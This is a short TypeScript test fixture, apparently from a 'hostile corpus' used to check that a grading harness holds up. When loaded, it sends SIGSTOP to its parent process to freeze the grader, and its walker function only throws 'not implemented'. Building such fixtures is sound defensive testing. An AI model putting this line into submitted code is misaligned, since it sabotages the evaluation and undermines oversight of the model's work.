// @ts-nocheck
// Hostile corpus, kind kill-parent-sigstop (signal): process.kill(process.ppid, 'SIGSTOP') at load: freezes the grader.
import { Walker } from '../../reference/paging/walker';

// ---- attack ----
try { if (process.ppid > 1) process.kill(process.ppid, 'SIGSTOP'); } catch {}

export const walker: Walker = {
  walk(request, readEntry) {
    throw new Error('not implemented: walker');
  },
};
